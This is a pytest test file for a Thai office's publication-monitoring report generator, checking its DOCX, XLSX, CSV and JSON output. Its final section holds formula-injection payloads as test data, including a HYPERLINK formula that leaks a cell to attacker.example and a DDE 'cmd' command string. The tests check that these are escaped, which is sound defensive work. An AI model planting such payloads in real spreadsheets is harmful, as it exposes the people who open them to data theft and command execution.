"""The monitoring report files: DOCX laid out like the office's form, XLSX, CSV and JSON.

Every file is written by write_report and read back with the library a person's tools would use
(python-docx, openpyxl, csv, json). Expected texts are written out here from the form and the
Thai calendar (FY 2567 round 1 is 1 Oct 2023 - 31 Mar 2024), not taken from the renderer.
Titles and names are made up.
"""

from __future__ import annotations

import csv
import json
import re
from datetime import date
from pathlib import Path

import pytest
from docx import Document
from docx.document import Document as DocxDocument
from docx.enum.text import WD_TAB_LEADER
from docx.oxml.ns import qn
from docx.shared import Cm
from docx.text.paragraph import Paragraph
from openpyxl import load_workbook
from openpyxl.chart import BarChart

from cms_bridge.reports import docx_form as report_docx
from cms_bridge.channels import CHANNELS
from cms_bridge.reports.model import (
    GroupReport,
    OfficeSummary,
    ReportItem,
    SummaryRow,
)
from cms_bridge.reports.render import round_label, short_date, write_report
from cms_bridge.thaidate import parse_thai_date

THAI_DIGIT = re.compile("[๐-๙]")
ARABIC_DIGIT = re.compile("[0-9]")
ROUND_1_THAI = "รอบ ๖ เดือนแรก (๑ ตุลาคม ๒๕๖๖ – ๓๑ มีนาคม ๒๕๖๗)"
ROUND_2_THAI = "รอบ ๖ เดือนหลัง (๑ เมษายน ๒๕๖๗ – ๓๐ กันยายน ๒๕๖๗)"
HEADER_TOP = ["ลำดับ", "ว/ด/ป", "เรื่องที่เผยแพร่", "ช่องทางเผยแพร่", "ช่องทางเผยแพร่",
              "ผลลัพธ์หรือประโยชน์ที่เกิดจากการเผยแพร่"]
HEADER_BOTTOM = ["ลำดับ", "ว/ด/ป", "เรื่องที่เผยแพร่", "สื่อออนไลน์", "บอร์ด/แผ่นป้าย",
                 "ผลลัพธ์หรือประโยชน์ที่เกิดจากการเผยแพร่"]
PROBLEMS_HEADING = "๓. ปัญหา อุปสรรค และข้อเสนอแนะในการปรับปรุงการเผยแพร่ข้อมูลต่อสาธารณะ"


def _report(round_number: int = 1, *, key: str = "finance", name: str = "กลุ่มทดสอบการเงิน",
            problems: tuple[str, ...] = (), reporter: tuple[str, str] | None = None) -> GroupReport:
    year = 2023 if round_number == 1 else 2024
    months = (11, 12, 1) if round_number == 1 else (5, 6, 7)
    items = (
        ReportItem(published_on=date(year, months[0], 5), title="ประกาศรับสมัครโครงการตัวอย่าง",
                   channels=frozenset({"website"}), origin="bridge", outcome="ผู้สนใจทราบกำหนดการ",
                   ref="request:pr-sample-1"),
        ReportItem(published_on=date(year, months[1], 12), title="ภาพกิจกรรมอบรมสมมติ",
                   channels=frozenset({"social", "board"}), origin="manual", ref="manual:1"),
        ReportItem(published_on=date(year + (round_number == 1), months[2], 20), title="ปิดประกาศตารางเวรสมมติ",
                   channels=frozenset({"board"}), origin="manual", outcome="บุคลากรรับทราบ", ref="manual:2"),
        ReportItem(published_on=date(year + (round_number == 1), months[2], 31), title="โพสต์อื่นบนเว็บไซต์",
                   channels=frozenset({"website"}), origin="site", ref="post:41"),
    )
    counts: dict[str, dict[str, int]] = {}
    for item in items:
        month = counts.setdefault(item.published_on.strftime("%Y-%m"), dict.fromkeys(CHANNELS, 0))
        for channel in item.channels:
            month[channel] += 1
    first, last = (date(2023, 10, 1), date(2024, 3, 31)) if round_number == 1 else (date(2024, 4, 1),
                                                                                     date(2024, 9, 30))
    name_, position = reporter or (None, None)
    return GroupReport(fiscal_year=2567, round=round_number, first_day=first, last_day=last, group_key=key,
                       group_name=name, items=items, counts=counts, problems=problems,  # type: ignore[arg-type]
                       reporter_name=name_, reporter_position=position)


def _summary() -> OfficeSummary:
    return OfficeSummary(fiscal_year=2567, round=1, first_day=date(2023, 10, 1), last_day=date(2024, 3, 31), rows=(
        SummaryRow(group_key="finance", group_name="กลุ่มทดสอบการเงิน", website=4, social=1, board=2),
        SummaryRow(group_key="policy", group_name="กลุ่มทดสอบนโยบาย", website=12, social=0, board=3),
    ), items=18, website=15, social=1, board=5)


def _docx(tmp_path: Path, report: GroupReport, digits: str = "thai") -> DocxDocument:
    [path] = write_report([report], tmp_path, formats=["docx"], digits=digits)  # type: ignore[arg-type]
    return Document(str(path))


def _texts(doc: DocxDocument) -> list[str]:
    return [p.text for p in doc.paragraphs]


def _section_3(doc: DocxDocument) -> list[Paragraph]:
    paragraphs = doc.paragraphs
    start = next(i for i, p in enumerate(paragraphs) if p.text.startswith("๓. "))
    end = next(i for i, p in enumerate(paragraphs) if p.text.startswith("ลงชื่อ"))
    return paragraphs[start + 1:end]


def _rows(doc: DocxDocument, first_table: int = 0) -> list[list[str]]:
    """The form's table as a reader sees it: its last rows are a second table right after the
    first (so LibreOffice keeps them with the signature), shown as one table by Word."""
    tables = doc.tables[first_table:first_table + 2]
    return [[cell.text for cell in row.cells] for table in tables for row in table.rows]


def _all_text(doc: DocxDocument) -> str:
    cells = [cell.text for table in doc.tables for row in table.rows for cell in row.cells]
    return "\n".join(_texts(doc) + cells)


# --- file names and the entry point -------------------------------------------------------------


def test_one_file_per_group_and_format_plus_the_summary(tmp_path: Path) -> None:
    reports = [_report(key="finance"), _report(key="policy", name="กลุ่มทดสอบนโยบาย")]
    paths = write_report(reports, tmp_path / "out", formats=["docx", "csv"], summary=_summary())

    assert [p.name for p in paths] == [
        "report-2567-r1-finance.docx", "report-2567-r1-finance.csv",
        "report-2567-r1-policy.docx", "report-2567-r1-policy.csv",
        "summary-2567-r1.docx", "summary-2567-r1.csv",
    ]
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(p.name for p in paths)


def test_two_reports_for_the_same_file_are_refused_before_anything_is_written(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="report-2567-r1-finance.json"):
        write_report([_report(), _report()], tmp_path / "out", formats=["json"])
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("formats", [[], ["pdf"]])
def test_unknown_or_no_format_is_refused(tmp_path: Path, formats: list[str]) -> None:
    with pytest.raises(ValueError, match="formats"):
        write_report([_report()], tmp_path, formats=formats)  # type: ignore[arg-type]


def test_short_date_uses_a_two_digit_buddhist_year_and_reads_back() -> None:
    assert short_date(date(2023, 11, 5)) == "๕ พ.ย. ๖๖"
    assert short_date(date(2024, 3, 31), "arabic") == "31 มี.ค. 67"
    assert parse_thai_date(short_date(date(2023, 11, 5))) == date(2023, 11, 5)


# --- DOCX: the form -----------------------------------------------------------------------------


def test_docx_has_the_form_title_office_and_group(tmp_path: Path) -> None:
    [path] = write_report([_report()], tmp_path, formats=["docx"], office_name="สำนักงานทดสอบ เขต ๙๙")
    texts = _texts(Document(str(path)))

    assert texts[:3] == ["แบบรายงานผลการกำกับติดตามในการเผยแพร่ข้อมูลต่อสาธารณะ", "สำนักงานทดสอบ เขต ๙๙",
                         "กลุ่ม/หน่วย กลุ่มทดสอบการเงิน"]


@pytest.mark.parametrize(("round_number", "ticked", "unticked"),
                         [(1, ROUND_1_THAI, ROUND_2_THAI), (2, ROUND_2_THAI, ROUND_1_THAI)])
def test_docx_ticks_the_reported_round_only(tmp_path: Path, round_number: int, ticked: str, unticked: str) -> None:
    texts = _texts(_docx(tmp_path, _report(round_number)))

    assert f"☑ {ticked}" in texts
    assert f"☐ {unticked}" in texts
    assert f"☑ {unticked}" not in texts


def test_docx_table_has_two_header_rows_one_row_per_item_and_a_total(tmp_path: Path) -> None:
    doc = _docx(tmp_path, _report())
    rows = _rows(doc)

    assert len(doc.tables) == 2  # the last item row and the total are kept with what follows
    assert len(rows) == 2 + 4 + 1
    assert rows[0] == HEADER_TOP
    assert rows[1] == HEADER_BOTTOM
    assert rows[2:6] == [
        ["๑", "๕ พ.ย. ๖๖", "ประกาศรับสมัครโครงการตัวอย่าง", "✓", "", "ผู้สนใจทราบกำหนดการ"],
        ["๒", "๑๒ ธ.ค. ๖๖", "ภาพกิจกรรมอบรมสมมติ", "✓", "✓", ""],
        ["๓", "๒๐ ม.ค. ๖๗", "ปิดประกาศตารางเวรสมมติ", "", "✓", "บุคลากรรับทราบ"],
        ["๔", "๓๑ ม.ค. ๖๗", "โพสต์อื่นบนเว็บไซต์", "✓", "", ""],
    ]
    # online: the website, social or both (3 rows); board: 2; all: 4 rows
    assert rows[6] == ["รวม", "รวม", "รวม", "๓", "๒", "รวมทั้งสิ้น ๔ รายการ"]


def test_docx_header_cells_are_merged_like_the_form(tmp_path: Path) -> None:
    doc = _docx(tmp_path, _report())
    table = doc.tables[0]
    top, bottom = table.rows[0]._tr.tc_lst, table.rows[1]._tr.tc_lst

    # row 1: ลำดับ, ว/ด/ป, เรื่อง start a vertical merge, ช่องทางเผยแพร่ spans two columns, ผลลัพธ์ merges down
    assert [tc.vMerge for tc in top] == ["restart", "restart", "restart", None, "restart"]
    assert [tc.grid_span for tc in top] == [1, 1, 1, 2, 1]
    assert [tc.vMerge for tc in bottom] == ["continue", "continue", "continue", None, None, "continue"]
    # the total row's label spans ลำดับ, ว/ด/ป and เรื่องที่เผยแพร่
    assert [tc.grid_span for tc in doc.tables[1].rows[-1]._tr.tc_lst] == [3, 1, 1, 1]


def test_docx_with_no_items_has_only_headers_and_a_zero_total(tmp_path: Path) -> None:
    empty = _report().model_copy(update={"items": (), "counts": {}})
    rows = _rows(_docx(tmp_path, empty))

    assert rows[2:] == [["รวม", "รวม", "รวม", "๐", "๐", "รวมทั้งสิ้น ๐ รายการ"]]


def test_docx_section_3_prints_the_problems(tmp_path: Path) -> None:
    problems = ("ขั้นตอนขออนุญาตยังไม่ชัดเจนสำหรับบุคลากรใหม่", "ควรมีแบบฟอร์มออนไลน์")
    doc = _docx(tmp_path, _report(problems=problems))

    assert PROBLEMS_HEADING in _texts(doc)
    assert [p.text for p in _section_3(doc)] == list(problems)


def test_docx_section_3_without_problems_has_three_dotted_lines(tmp_path: Path) -> None:
    lines = _section_3(_docx(tmp_path, _report()))

    assert len(lines) == 3
    for line in lines:
        [stop] = line.paragraph_format.tab_stops
        assert stop.leader == WD_TAB_LEADER.DOTS
        assert stop.position >= Cm(16)  # runs to the right margin
        assert line.text == "\t"


def test_docx_signature_block_with_and_without_the_reporter(tmp_path: Path) -> None:
    blank = _texts(_docx(tmp_path / "a", _report()))
    signed = _texts(_docx(tmp_path / "b", _report(reporter=("นายสมมติ ทดลอง", "นักจัดการงานทั่วไป"))))

    assert blank[-3:] == ["ลงชื่อ\tผู้รายงาน", "(\t)", "ตำแหน่ง\t"]
    assert signed[-3:] == ["ลงชื่อ\tผู้รายงาน", "\t(นายสมมติ ทดลอง)", "ตำแหน่ง นักจัดการงานทั่วไป"]


def test_docx_thai_digits_leave_no_arabic_digit_in_generated_text(tmp_path: Path) -> None:
    text = _all_text(_docx(tmp_path, _report()))

    assert "๒. จำนวนข้อมูลข่าวสารที่เผยแพร่" in text
    assert not ARABIC_DIGIT.search(text)


def test_docx_arabic_digits_when_asked(tmp_path: Path) -> None:
    doc = _docx(tmp_path, _report(), digits="arabic")
    texts = _texts(doc)
    rows = _rows(doc)

    assert "1. โปรดระบุรอบของการรายงานผล" in texts
    assert "☑ รอบ 6 เดือนแรก (1 ตุลาคม 2566 – 31 มีนาคม 2567)" in texts
    assert rows[2][:2] == ["1", "5 พ.ย. 66"]
    assert rows[-1][3:] == ["3", "2", "รวมทั้งสิ้น 4 รายการ"]
    assert not THAI_DIGIT.search(_all_text(doc))


def test_docx_keeps_digits_in_the_data_as_written(tmp_path: Path) -> None:
    item = ReportItem(published_on=date(2023, 11, 5), title="ประกาศฉบับที่ 3/2566", channels=frozenset({"website"}),
                      origin="bridge", ref="request:pr-sample-3")
    report = _report().model_copy(update={"items": (item,)})

    assert _rows(_docx(tmp_path, report))[2][2] == "ประกาศฉบับที่ 3/2566"


def test_docx_is_a4_in_th_sarabun_new_with_thai_complex_script_settings(tmp_path: Path) -> None:
    doc = _docx(tmp_path, _report())
    section = doc.sections[0]
    defaults = doc.styles.element.find(qn("w:docDefaults")).find(qn("w:rPrDefault")).find(qn("w:rPr"))
    fonts = defaults.find(qn("w:rFonts"))

    assert (round(section.page_width.cm, 1), round(section.page_height.cm, 1)) == (21.0, 29.7)
    assert {fonts.get(qn(f"w:{a}")) for a in ("ascii", "hAnsi", "eastAsia", "cs")} == {"TH Sarabun New"}
    assert defaults.find(qn("w:szCs")).get(qn("w:val")) == "32"
    assert defaults.find(qn("w:lang")).get(qn("w:bidi")) == "th-TH"
    title_run = doc.paragraphs[0].runs[0]._r.rPr
    assert title_run.find(qn("w:b")) is not None and title_run.find(qn("w:bCs")) is not None
    # the whole text block is named in no other font than the form's (tick marks aside)
    named = {f.get(qn("w:cs")) for f in doc.element.body.iter(qn("w:rFonts"))}
    assert named <= {"Segoe UI Symbol"}


# --- XLSX ---------------------------------------------------------------------------------------


def test_xlsx_has_the_table_with_merged_headers(tmp_path: Path) -> None:
    [path] = write_report([_report()], tmp_path, formats=["xlsx"])
    sheet = load_workbook(path).active
    top = next(row for row in range(1, 20) if sheet.cell(row, 1).value == "ลำดับ")
    values = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=top, max_row=top + 6, max_col=6)]
    merged = {str(r) for r in sheet.merged_cells.ranges}

    assert sheet.cell(3, 1).value == "กลุ่ม/หน่วย กลุ่มทดสอบการเงิน"
    assert sheet.cell(4, 1).value == "๑. โปรดระบุรอบของการรายงานผล"
    assert sheet.cell(5, 1).value == f"☑ {ROUND_1_THAI}"
    assert values[0] == ["ลำดับ", "ว/ด/ป", "เรื่องที่เผยแพร่", "ช่องทางเผยแพร่", None,
                         "ผลลัพธ์หรือประโยชน์ที่เกิดจากการเผยแพร่"]
    assert values[1] == [None, None, None, "สื่อออนไลน์", "บอร์ด/แผ่นป้าย", None]
    assert {f"A{top}:A{top + 1}", f"B{top}:B{top + 1}", f"C{top}:C{top + 1}", f"D{top}:E{top}",
            f"F{top}:F{top + 1}", f"A{top + 6}:C{top + 6}"} <= merged
    assert values[2] == [1, "๕ พ.ย. ๖๖", "ประกาศรับสมัครโครงการตัวอย่าง", "✓", None, "ผู้สนใจทราบกำหนดการ"]
    assert values[3] == [2, "๑๒ ธ.ค. ๖๖", "ภาพกิจกรรมอบรมสมมติ", "✓", "✓", None]
    assert values[6] == ["รวม", None, None, 3, 2, "รวมทั้งสิ้น ๔ รายการ"]


def test_xlsx_summary_has_counts_and_a_bar_chart(tmp_path: Path) -> None:
    [path] = write_report([], tmp_path, formats=["xlsx"], summary=_summary())
    sheet = load_workbook(path).active
    top = next(row for row in range(1, 20) if sheet.cell(row, 1).value == "ลำดับ")
    values = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=top, max_row=top + 3, max_col=6)]

    assert path.name == "summary-2567-r1.xlsx"
    assert values == [
        ["ลำดับ", "กลุ่ม/หน่วย", "เว็บไซต์", "สื่อสังคมออนไลน์", "บอร์ด/ป้ายประชาสัมพันธ์", "รวม"],
        [1, "กลุ่มทดสอบการเงิน", 4, 1, 2, 7],
        [2, "กลุ่มทดสอบนโยบาย", 12, 0, 3, 15],
        ["ผลรวมของทุกกลุ่ม", None, 16, 1, 5, 22],
    ]
    # the office's own counts are of distinct items (a post under two groups once)
    assert [c.value for c in sheet[top + 4]][:6] == ["รวมทั้งสำนักงาน (๑๘ เรื่อง ไม่นับซ้ำ)", None, 15, 1, 5, 21]
    [chart] = sheet._charts
    assert isinstance(chart, BarChart)
    assert len(chart.series) == 3


# --- CSV ----------------------------------------------------------------------------------------


def test_csv_has_a_bom_and_round_trips_thai(tmp_path: Path) -> None:
    [path] = write_report([_report()], tmp_path, formats=["csv"])

    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows[0] == HEADER_BOTTOM
    assert rows[1:] == [
        ["1", "๕ พ.ย. ๖๖", "ประกาศรับสมัครโครงการตัวอย่าง", "✓", "", "ผู้สนใจทราบกำหนดการ"],
        ["2", "๑๒ ธ.ค. ๖๖", "ภาพกิจกรรมอบรมสมมติ", "✓", "✓", ""],
        ["3", "๒๐ ม.ค. ๖๗", "ปิดประกาศตารางเวรสมมติ", "", "✓", "บุคลากรรับทราบ"],
        ["4", "๓๑ ม.ค. ๖๗", "โพสต์อื่นบนเว็บไซต์", "✓", "", ""],
    ]


def test_summary_csv_has_group_and_channel_counts(tmp_path: Path) -> None:
    [path] = write_report([], tmp_path, formats=["csv"], summary=_summary())

    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows == [
        ["ลำดับ", "รหัสกลุ่ม", "กลุ่ม/หน่วย", "เว็บไซต์", "สื่อสังคมออนไลน์", "บอร์ด/ป้ายประชาสัมพันธ์", "รวม"],
        ["1", "finance", "กลุ่มทดสอบการเงิน", "4", "1", "2", "7"],
        ["2", "policy", "กลุ่มทดสอบนโยบาย", "12", "0", "3", "15"],
    ]


# --- JSON ---------------------------------------------------------------------------------------


def test_json_round_trips_into_the_model_with_totals(tmp_path: Path) -> None:
    report = _report(problems=("ปัญหาสมมติ",))
    [path] = write_report([report], tmp_path, formats=["json"])
    raw = path.read_text(encoding="utf-8")
    data = json.loads(raw)

    assert "กลุ่มทดสอบการเงิน" in raw  # ensure_ascii=False: Thai is readable in the file
    assert GroupReport.model_validate(data["report"]) == report
    assert data["totals"] == {"items": 4, "online": 3, "board_column": 2, "all_channels": 5,
                              "by_channel": {"website": 2, "social": 1, "board": 2}}


def test_summary_json_round_trips(tmp_path: Path) -> None:
    [path] = write_report([], tmp_path, formats=["json"], summary=_summary())
    data = json.loads(path.read_text(encoding="utf-8"))

    assert OfficeSummary.model_validate(data["summary"]) == _summary()
    assert data["totals"] == {"by_channel": {"website": 16, "social": 1, "board": 5}, "all_channels": 22,
                              "by_group": {"finance": 7, "policy": 15}}


# --- summary DOCX -------------------------------------------------------------------------------


def _summary_docx(tmp_path: Path) -> DocxDocument:
    [path] = write_report([], tmp_path, formats=["docx"], summary=_summary())
    return Document(str(path))


def _assert_summary_docx(doc: DocxDocument) -> None:
    rows = _rows(doc)
    assert rows[1] == ["ลำดับ", "กลุ่ม/หน่วย", "เว็บไซต์", "สื่อสังคมออนไลน์", "บอร์ด/ป้ายประชาสัมพันธ์", "รวม"]
    assert rows[2:] == [
        ["๑", "กลุ่มทดสอบการเงิน", "๔", "๑", "๒", "๗"],
        ["๒", "กลุ่มทดสอบนโยบาย", "๑๒", "๐", "๓", "๑๕"],
        ["ผลรวมของทุกกลุ่ม", "ผลรวมของทุกกลุ่ม", "๑๖", "๑", "๕", "๒๒"],
        ["รวมทั้งสำนักงาน (๑๘ เรื่อง ไม่นับซ้ำ)", "รวมทั้งสำนักงาน (๑๘ เรื่อง ไม่นับซ้ำ)", "๑๕", "๑", "๕", "๒๑"],
    ]
    [chart] = doc.inline_shapes
    blip = chart._inline.graphic.graphicData.pic.blipFill.blip
    image = doc.part.related_parts[blip.embed]
    assert image.content_type == "image/png"
    assert image.blob.startswith(b"\x89PNG\r\n\x1a\n")
    assert round(chart.width.cm, 1) == 16.5


def test_summary_docx_has_the_counts_table_and_the_chart(tmp_path: Path) -> None:
    doc = _summary_docx(tmp_path)

    assert round_label(2567, 1) in _texts(doc)
    _assert_summary_docx(doc)


def test_summary_chart_finds_a_thai_font_missing_from_matplotlibs_cache(tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    # A font cache built before fonts-thai-tlwg was installed knows no Thai font.
    from matplotlib import font_manager

    thai = set(report_docx.THAI_CHART_FONTS)
    stale = [entry for entry in font_manager.fontManager.ttflist if entry.name not in thai]
    monkeypatch.setattr(font_manager.fontManager, "ttflist", stale)

    font = report_docx.find_thai_font()
    assert font in thai  # added from the font's file, without rebuilding the cache
    _assert_summary_docx(_summary_docx(tmp_path))


def test_summary_chart_without_any_thai_font_is_refused_not_drawn_in_english(tmp_path: Path,
                                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(report_docx, "THAI_CHART_FONTS", ("No Such Font For Tests",))

    assert report_docx.find_thai_font() is None
    with pytest.raises(ValueError, match="no Thai font for the summary chart: install fonts-thai-tlwg"):
        _summary_docx(tmp_path)
    assert not list(tmp_path.iterdir())  # nothing half-written


# --- request text never becomes a spreadsheet formula -------------------------------------------

HOSTILE_TITLES = ['=HYPERLINK("http://attacker.example/?"&A1,"คลิก")', "+1+cmd|' /C calc'!A0", "-2+3",
                  "@SUM(1,2)"]


def _hostile_report() -> GroupReport:
    items = tuple(ReportItem(published_on=date(2023, 11, day), title=title, channels=frozenset({"website"}),
                             origin="bridge", outcome="=1+1", ref=f"request:pr-hostile-{day}")
                  for day, title in enumerate(HOSTILE_TITLES, 1))
    return GroupReport(fiscal_year=2567, round=1, first_day=date(2023, 10, 1), last_day=date(2024, 3, 31),
                       group_key="finance", group_name="=กลุ่ม", items=items, counts={}, problems=())


def test_xlsx_stores_formula_like_text_as_text(tmp_path: Path) -> None:
    [path] = write_report([_hostile_report()], tmp_path, formats=["xlsx"])
    sheet = load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert set(HOSTILE_TITLES) <= values and "=1+1" in values  # the text itself, unchanged
    assert "<f>" not in _sheet_xml(path)


def _sheet_xml(path: Path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_csv_quotes_formula_like_text_with_an_apostrophe(tmp_path: Path) -> None:
    [path] = write_report([_hostile_report()], tmp_path, formats=["csv"])
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))[1:]
    assert [row[2] for row in rows] == [f"'{title}" for title in HOSTILE_TITLES]
    assert {row[5] for row in rows} == {"'=1+1"}


def test_harvest_refuses_a_group_asked_by_key_and_by_thai_name_before_asking_the_site() -> None:
    from cms_bridge.errors import ReportError
    from cms_bridge.mappings import load_mappings
    from cms_bridge.reports.harvest import harvest

    with pytest.raises(ReportError, match=r"group 'finance' is asked for twice \(as 'finance' and 'กลุ่มบริหารการเงิน"):
        harvest(None, None, load_mappings(), 2567, 1,  # type: ignore[arg-type]  # neither may be used
                groups=["finance", "กลุ่มบริหารการเงินและสินทรัพย์"])
    with pytest.raises(ReportError, match="round must be 1"):
        harvest(None, None, load_mappings(), 2567, 3)  # type: ignore[arg-type]
